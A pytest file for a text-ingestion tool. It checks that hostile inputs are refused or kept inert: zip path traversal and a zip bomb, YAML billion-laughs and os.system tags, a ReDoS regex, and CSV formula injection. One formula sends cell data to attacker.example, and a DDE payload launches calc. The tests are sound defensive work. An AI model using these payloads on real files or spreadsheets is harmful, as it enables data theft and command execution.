"""Bad inputs (``tests/bad_inputs/``): each gives the exact message of its README table.

The folder is made by ``tests/bad_inputs/make.py``; huge inputs (an enormous
line, a zip bomb, a file over the size limit) are made here, in ``tmp_path``.
"""

from __future__ import annotations

import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner

from framing.cli import app
from framing.corpus.corpus import Corpus
from framing.corpus.ingest import IngestOptions, ingest
from framing.corpus.manifest import Manifest
from framing.errors import ConfigError, LexiconError, ManifestError, ResourceLimitError
from framing.experiment.config import load_experiment
from framing.lexicon.io import load_lexicon
from framing.limits import DEFAULT_LIMITS

BAD = Path(__file__).resolve().parent / "bad_inputs"
README = (BAD / "README.md").read_text(encoding="utf-8")

HINT_ENCODING = "(re-save the file as UTF-8, or pass --encoding NAME)"
HINT_BINARY = "(convert it to text first: plain text, HTML, CSV or JSON)"

#: Article inputs skipped by ``framing ingest``: source (relative to bad_inputs/) -> reason.
SKIPPED = {
    "articles/archive_traversal.zip!../evil.txt": (
        "unsafe member name: its name climbs out of the archive (..); "
        "it was not read (nothing is ever extracted)"
    ),
    "articles/archive_traversal.zip!/tmp/absolute.txt": (
        "unsafe member name: its name is an absolute path; "
        "it was not read (nothing is ever extracted)"
    ),
    "articles/archive_traversal.zip!inside/inner.zip": (
        "a zip inside the archive is not opened (nor is an .xlsx or .docx, which are zips): "
        "extract it and ingest its files"
    ),
    "articles/archive_traversal.zip!inside/passwords": (
        "a symbolic link, not a file; it was not followed"
    ),
    "articles/archive_truncated.zip": (
        "the zip archive is damaged or truncated (File is not a zip file) "
        "(download or create the archive again)"
    ),
    "articles/csv_no_text_column.csv": (
        "no text column found (its columns are: name, city, year; name the text column with "
        "--columns text=COLUMN (e.g. --columns text=body,title=headline))"
    ),
    "articles/csv_unclosed_quote.csv#row 2": (
        "the quoting breaks in the row starting at line 3 (',' expected after '\"'): "
        "an unclosed or stray quote shifts every cell after it, so lines 3-4 were not read "
        '(close the quote; a quote inside a quoted cell is written twice, ""), '
        "then read the file again"
    ),
    "articles/deep_nested.json": (
        "the JSON is nested more than 64 levels deep (an article export needs far fewer "
        "levels; check the file, or raise max_json_depth)"
    ),
    "articles/html_listing.html": (
        "no article text found in the HTML (is this a listing, login or error page?) "
        "(save the article page itself, or export its text)"
    ),
    "articles/jsonl_bad_lines.jsonl#line 2": (
        "not valid JSON (Unterminated string starting at column 41); the line may be truncated"
    ),
    "articles/jsonl_bad_lines.jsonl#line 3": "a JSON list, not an article object",
    "articles/sheet_with_formulas.xlsx": (
        "an Excel workbook (.xlsx), not text or an archive of articles "
        "(save the sheet as CSV (UTF-8) and ingest that; formulas are never evaluated)"
    ),
    "articles/text_bad_utf8_bom.txt": (
        "the file starts with a utf-8 byte-order mark but is not valid utf-8 "
        "(bad bytes at position 23) (re-save it as UTF-8, or pass --encoding NAME)"
    ),
    "articles/text_empty.txt": "empty file: no text to read (remove it or export it again)",
    "articles/text_nul_bytes.txt": f"binary file, not text: it contains NUL bytes {HINT_BINARY}",
    "articles/text_pdf_renamed.txt": (
        f"binary file, not text: it looks like a PDF document {HINT_BINARY}"
    ),
    "articles/text_unreadable_encoding.txt": (
        "cannot tell the text encoding: neither UTF-8, UTF-16, Windows-1256, Windows-1252 "
        f"nor Latin-1 gives readable text {HINT_ENCODING}"
    ),
    "articles/wordpress_protected_post.json": (
        "the post has no body text: it is password-protected"
    ),
    "articles/wordpress_truncated.json": (
        "invalid JSON: Unterminated string starting at line 9, column 15 "
        "(the file may be truncated or not JSON; export or download it again)"
    ),
}

#: Article inputs (or parts of them) that are read: source -> expected title.
READ = {
    "good_article.txt": "Morocco and Saudi Arabia sign a security cooperation plan",
    "articles/archive_traversal.zip!inside/visite_dakar.txt": (
        "Le Maroc et le Sénégal renforcent leur coopération policière"
    ),
    "articles/csv_formulas.csv#row 1": (
        '=HYPERLINK("http://attacker.example/?q="&A1,"Click here")'
    ),
    "articles/csv_formulas.csv#row 2": "Fire drills in schools",
    "articles/csv_unclosed_quote.csv#row 1": "Tangier hosts a customs workshop",
    "articles/html_scripts.html": "Border agencies test a shared alert system",
    "articles/jsonl_bad_lines.jsonl#line 1": (
        "Le Maroc et le Sénégal renforcent leur coopération policière"
    ),
    "articles/text_mojibake.txt": "L'accord de sécurité signé à Rabat divise les commentateurs",
    "articles/text_windows_1256.txt": "المغرب وإسبانيا يعززان التعاون في مراقبة الحدود",
}

#: Lexicon files: name -> (error class, line or None, str(error) after "FILE[:LINE]: ").
LEXICONS = {
    "billion_laughs.yaml": (
        LexiconError,
        1,
        "YAML anchors (&l0) are not allowed in a lexicon "
        "(remove the anchor and write repeated values out in full)",
    ),
    "deep_nesting.yaml": (
        ResourceLimitError,
        20,
        "the document is nested more than 20 levels deep "
        "(a lexicon needs far fewer levels; check the indentation)",
    ),
    "not_utf8.yaml": (
        LexiconError,
        None,
        "not UTF-8 text (undecodable byte at offset 78) (save the file as UTF-8)",
    ),
    "python_tag.yaml": (
        LexiconError,
        5,
        "YAML tags (tag:yaml.org,2002:python/object/apply:os.system) are not allowed in a "
        "lexicon (remove the tag; quote the value if it should be text)",
    ),
    "truncated.yaml": (
        LexiconError,
        8,
        "not valid YAML: while scanning a quoted scalar found unexpected end of stream "
        "(quote values that contain ': ' or start with a special character, "
        "and indent with spaces, not tabs)",
    ),
}

REDOS_ISSUE = (
    "frame threat, language en, entry '(?:counter)?(terror\\w*)+': a repeated group that "
    "itself repeats (such as (a+)+ or (\\w+\\s?)*) can take exponential time on a long "
    "word: rewrite it without the outer repetition"
)

EXPERIMENTS = {
    "billion_laughs.yaml": (
        ConfigError,
        6,
        "YAML anchors (&l0) are not allowed in an experiment file "
        "(remove the anchor and write repeated values out in full)",
    ),
    "deep_nesting.yaml": (
        ResourceLimitError,
        20,
        "the document is nested more than 20 levels deep "
        "(an experiment file needs far fewer levels; check the indentation)",
    ),
    "huge_number.yaml": (
        ConfigError,
        None,
        "a number in the file is too large to read (check the numbers)",
    ),
    "not_utf8.yaml": (
        ConfigError,
        None,
        "not UTF-8 text (undecodable byte at offset 88) (save the file as UTF-8)",
    ),
    "python_tag.yaml": (
        ConfigError,
        5,
        "YAML tags (tag:yaml.org,2002:python/object/apply:os.system) are not allowed in an "
        "experiment file (remove the tag; quote the value if it should be text)",
    ),
}

MANIFESTS = {
    "broken_quote.csv": (
        ManifestError,
        "manifests/broken_quote.csv:2: the quoting breaks in the row starting at line 2 "
        "(unexpected end of data) (close the quote; a quote inside a quoted cell is written "
        'twice: "")',
    ),
    "misspelt_column.csv": (
        ManifestError,
        "manifests/misspelt_column.csv [languge]: unknown column 'languge': did you mean "
        "'language'? (known columns are file, outlet, language, date, url, title, via_outlet; "
        "others are kept as metadata)",
    ),
}


def relative(source: str) -> str:
    return source.removeprefix(str(BAD) + "/")


@pytest.fixture(scope="module")
def bad_corpus() -> Corpus:
    return ingest([str(BAD / "articles"), str(BAD / "good_article.txt")])


# -- article inputs ------------------------------------------------------------------------------


def test_every_bad_article_input_is_skipped_with_its_exact_reason(bad_corpus: Corpus) -> None:
    skipped = {relative(item["source"]): item["reason"] for item in bad_corpus.report["skipped"]}
    assert skipped == SKIPPED


def test_no_good_document_is_lost(bad_corpus: Corpus) -> None:
    documents = bad_corpus.documents
    titles = dict(zip(documents["source_path"].map(relative), documents["title"], strict=True))
    assert titles == READ
    good = documents.loc[documents["source_path"].map(relative) == "good_article.txt"].iloc[0]
    assert "Saudi counterpart in Riyadh" in good["text"]
    assert good["language"] == "en"


def test_every_bad_article_file_is_accounted_for(bad_corpus: Corpus) -> None:
    """Each file of articles/ is either read (in part) or skipped, never silently absent."""
    sources = [*SKIPPED, *READ]
    for path in sorted((BAD / "articles").iterdir()):
        name = f"articles/{path.name}"
        assert any(s == name or s.startswith((f"{name}#", f"{name}!")) for s in sources), name


def test_scripts_and_inert_markup_never_reach_the_text(bad_corpus: Corpus) -> None:
    documents = bad_corpus.documents
    html = documents.loc[documents["source_format"] == "html"].iloc[0]
    assert "Tangier Med" in html["text"] and "a few minutes" in html["text"]
    everything = json.dumps(bad_corpus.documents.to_dict("records"), ensure_ascii=False)
    everything += json.dumps(bad_corpus.passages["text"].tolist(), ensure_ascii=False)
    assert "PAYLOAD" not in everything


def test_formulas_are_kept_as_text_never_evaluated(bad_corpus: Corpus) -> None:
    documents = bad_corpus.documents.set_index(bad_corpus.documents["source_path"].map(relative))
    first = documents.loc["articles/csv_formulas.csv#row 1"]
    assert json.loads(first["metadata"])["note"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    second = documents.loc["articles/csv_formulas.csv#row 2"]
    assert second["text"].startswith("-2 is not a formula here")
    assert json.loads(second["metadata"])["note"] == "+33 5 55 55 55 55"


def test_wrong_encodings_are_detected_and_repaired(bad_corpus: Corpus) -> None:
    documents = bad_corpus.documents.set_index(bad_corpus.documents["source_path"].map(relative))
    arabic = documents.loc["articles/text_windows_1256.txt"]
    assert json.loads(arabic["metadata"])["encoding"] == "cp1256"
    assert "تهريب المهاجرين" in arabic["text"]
    repaired = documents.loc["articles/text_mojibake.txt"]
    assert "échange de données" in repaired["text"] and "Ã" not in repaired["text"]


def test_passage_offsets_hold_for_every_read_document(bad_corpus: Corpus) -> None:
    texts = dict(zip(bad_corpus.documents["doc_id"], bad_corpus.documents["text"], strict=True))
    for row in bad_corpus.passages.itertuples(index=False):
        assert texts[row.doc_id][row.start : row.end] == row.text


# -- lexicons, experiments, manifests -----------------------------------------------------------


@pytest.mark.parametrize("name", sorted(LEXICONS))
def test_bad_lexicon_gives_its_exact_error(name: str) -> None:
    kind, line, message = LEXICONS[name]
    path = BAD / "lexicons" / name
    with pytest.raises(kind) as raised:
        load_lexicon(path)
    where = f"{path}:{line}" if line else str(path)
    assert str(raised.value) == f"{where}: {message}"


def test_regex_with_nested_repetition_is_refused() -> None:
    path = BAD / "lexicons" / "redos_regex.yaml"
    with pytest.raises(LexiconError) as raised:
        load_lexicon(path)
    assert f"error: {path}:8: {REDOS_ISSUE}" in str(raised.value)


@pytest.mark.parametrize("name", sorted(EXPERIMENTS))
def test_bad_experiment_file_gives_its_exact_error(name: str) -> None:
    kind, line, message = EXPERIMENTS[name]
    path = BAD / "experiments" / name
    with pytest.raises(kind) as raised:
        load_experiment(path)
    where = f"{path}:{line}" if line else str(path)
    assert str(raised.value) == f"{where}: {message}"


@pytest.mark.parametrize("name", sorted(MANIFESTS))
def test_bad_manifest_gives_its_exact_error(name: str) -> None:
    kind, message = MANIFESTS[name]
    with pytest.raises(kind) as raised:
        Manifest.read(BAD / "manifests" / name)
    assert relative(str(raised.value)) == message


def test_formula_in_a_manifest_is_kept_as_text() -> None:
    corpus = ingest([], manifest=BAD / "manifests" / "formula_manifest.csv")
    metadata = json.loads(corpus.documents["metadata"].iloc[0])
    assert metadata["note"] == '=HYPERLINK("http://attacker.example","open")'
    assert corpus.documents["outlet"].iloc[0] == "Hespress English"


def test_readme_table_lists_every_file_and_message() -> None:
    for source, reason in SKIPPED.items():
        assert f"`{source}`" in README, source
        assert reason.replace("|", "\\|") in README, reason
    for source in READ:
        assert f"`{source}`" in README, source
    for folder, table in (("lexicons", LEXICONS), ("experiments", EXPERIMENTS)):
        for name, (_, line, message) in table.items():
            where = f"{folder}/{name}:{line}" if line else f"{folder}/{name}"
            assert f"`{where}: {message}`" in README, where
    for _name, (_, message) in MANIFESTS.items():
        assert f"`{message}`" in README
    assert REDOS_ISSUE in README
    listed = set(re.findall(r"`((?:articles|lexicons|experiments|manifests)/[^`!#:]+)", README))
    on_disk = {
        f"{folder}/{p.name}"
        for folder in ("articles", "lexicons", "experiments", "manifests")
        for p in (BAD / folder).iterdir()
    }
    assert on_disk <= listed


def test_make_script_reproduces_the_committed_files(tmp_path: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_bad_inputs", BAD / "make.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    for path in module.write_all(tmp_path):
        committed = BAD / path.relative_to(tmp_path)
        assert committed.read_bytes() == path.read_bytes(), committed


# -- made at test time: huge inputs --------------------------------------------------------------


def test_enormous_line_is_cut_into_passages_within_the_limit(tmp_path: Path) -> None:
    sentence = "The visit of the delegation to Rabat focused on training and cyber security. "
    body = sentence * 12_000  # about 1 MB on one line
    (tmp_path / "one_line.txt").write_text("Delegation visits Rabat\n\n" + body, encoding="utf-8")
    corpus = ingest([str(tmp_path)])
    text = corpus.documents["text"].iloc[0]
    passages = corpus.passages
    assert passages["text"].str.len().max() <= DEFAULT_LIMITS.max_passage_chars
    assert "".join(passages["text"]).replace(" ", "") == text.replace(" ", "")
    for row in passages.itertuples(index=False):
        assert text[row.start : row.end] == row.text
    (note,) = corpus.report["long_passages_split"]
    assert note["longest_chars"] == len(body.strip())
    assert note["passages_after"] == len(passages) > 40


def test_line_without_spaces_is_cut_at_the_limit(tmp_path: Path) -> None:
    (tmp_path / "run.txt").write_text(
        "Long identifiers\n\nA line follows.\n\n" + "سلام" * 9000, encoding="utf-8"
    )
    limits = replace(DEFAULT_LIMITS, max_passage_chars=5000)
    corpus = ingest([str(tmp_path)], options=IngestOptions(limits=limits))
    lengths = corpus.passages["text"].str.len().tolist()
    assert lengths[0] == len("A line follows.")
    assert lengths[1:] == [5000] * 7 + [1000]


def test_file_over_the_size_limit_is_skipped_by_the_cli(tmp_path: Path) -> None:
    (tmp_path / "big.txt").write_text("Rabat security news. " * 100, encoding="utf-8")
    good = (BAD / "good_article.txt").read_text(encoding="utf-8")
    (tmp_path / "small.txt").write_text(good, encoding="utf-8")
    out = tmp_path / "corpus"
    result = CliRunner().invoke(
        app, ["ingest", str(tmp_path / "big.txt"), str(tmp_path / "small.txt"),
              "-o", str(out), "--max-file-mb", "0.001"]
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    report = json.loads((out / "ingest_report.json").read_text(encoding="utf-8"))
    assert report["skipped"] == [
        {
            "source": str(tmp_path / "big.txt"),
            "reason": "the file is 2,100 bytes, over the limit of 1,000 (split it into smaller "
            "files, or raise the limit (framing ingest --max-file-mb))",
        }
    ]
    assert report["options"]["limits"]["max_file_bytes"] == 1000
    assert report["n_documents"] == 1


def test_zip_bomb_is_refused_naming_the_archive(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.txt", b"0" * 5_000_000)
    good = tmp_path / "good_article.txt"
    good.write_bytes((BAD / "good_article.txt").read_bytes())
    corpus = ingest([str(bomb), str(good)])
    (skipped,) = corpus.report["skipped"]
    assert skipped["source"] == str(bomb)
    assert re.fullmatch(
        r"refused as a possible decompression bomb: it expands [\d,]+ times its size "
        r"\(the limit is 100\) \(extract it yourself if you trust it, or raise "
        r"max_archive_ratio in Limits\)",
        skipped["reason"],
    )
    assert corpus.documents["source_path"].tolist() == [str(good)]
